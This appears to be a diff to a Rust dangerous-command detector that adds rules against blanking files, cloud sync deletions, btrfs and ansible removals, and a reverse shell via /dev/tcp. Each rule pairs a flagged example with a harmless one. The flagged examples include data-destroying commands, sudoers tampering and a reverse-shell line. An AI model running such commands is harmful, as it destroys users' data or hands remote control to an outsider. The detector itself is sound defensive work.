@@ -36,6 +36,9 @@ pub(super) const WRITE: &str = ">";
 /// Instead of a program: a file that is written over, which is no folder.
 pub(super) const OVER: &str = ">!";
 
+/// Instead of a program: a shell whose commands, or what they write, come from or go to another machine.
+pub(super) const REMOTE: &str = ">&";
+
 /// Instead of a program: a folder into which things of any name are written.
 pub(super) const INTO: &str = ">/";
 
@@ -89,10 +92,15 @@ pub static TABLE: &[Danger] = &[
     row("empty", &[WRITE, OVER], tree::emptied, TREES, "for f in ~/*; do : > \"$f\"; done", "for f in *.log; do : > \"$f\"; done"),
     row("system-tree", &[INTO], device::around_critical, TREES, "tar xf x.tar -C /", "tar xf x.tar -C y"),
     row("archive", &["zip", "7z", "7za", "7zz", "rar", "arj", "lha"], tree::archive, TREES, "zip -rm x.zip ~", "zip -rm x.zip y"),
+    row("blank", &["cp", "install", "sed", "gsed", "truncate"], tree::blank, TREES, "find ~ -type f | xargs cp /dev/null", "cp /dev/null x"),
+    row("cloud", &["aws", "gsutil", "gcloud", "s3cmd", "s5cmd", "mc"], tree::cloud, TREES, "aws s3 sync s3://b ~ --delete", "aws s3 sync s3://b y --delete"),
+    row("subvolume", &["btrfs"], tree::subvolume, TREES, "btrfs subvolume delete /home", "btrfs subvolume delete y"),
+    row("absent", &["ansible"], tree::absent, TREES, "ansible localhost -m file -a 'path=/etc state=absent'", "ansible localhost -m file -a 'path=/tmp/x state=absent'"),
     row("rclone", &["rclone"], tree::remote, TREES, "rclone purge ~", "rclone purge remote:x"),
     row("tool", &["aws", "gsutil", "s3cmd", "cmake", "btrfs", "lftp"], tree::by_tool, TREES, "cmake -E rm -rf ~", "cmake -E rm -rf y"),
     row("prune", &["fdupes", "jdupes", "rdfind", "tmpreaper", "tmpwatch", "robocopy", "unison"], tree::prune, TREES, "fdupes -rdN ~", "fdupes -rdN y"),
     row("system-file", &[WRITE, "tee", "cp", "mv", "install", "ln", "dd", "truncate", "sponge", "sed", "perl", "curl", "wget", "shred", "rsync", "xxd"], device::to_critical, RIGHTS, "echo x >> /etc/sudoers", "cat /etc/passwd > x"),
+    row("remote-shell", &[REMOTE], escalation::always, "run the command itself, here", "bash -i >& /dev/tcp/h/1 0>&1", "echo x > /dev/tcp/h/1"),
     // Disks.
     row("node", &["mknod"], device::node, DISKS, "mknod x b 8 0", "mknod x p"),
     row("device", &[WRITE, "dd", "dcfldd", "dc3dd", "tee", "sponge", "cp", "mv", "install", "truncate", "fallocate", "pv", "ddrescue", "dd_rescue", "rsync", "curl", "wget", "tar", "gtar", "bsdtar", "sed", "qemu-img", "badblocks", "fio", "sort", "shuf", "socat", "find", "ntfsclone", "partclone.*", "openssl", "xxd", "flashcp", "nandwrite", "flash_erase", "flash_eraseall", "flashrom", "e2image", "partimage", "fsarchiver", "bmaptool", "grub-install", "grub2-install", "debugfs", "lilo", "extlinux", "ln"], device::to_device, DISKS, "dd if=x of=/dev/sda", "dd if=x of=disk.img"),
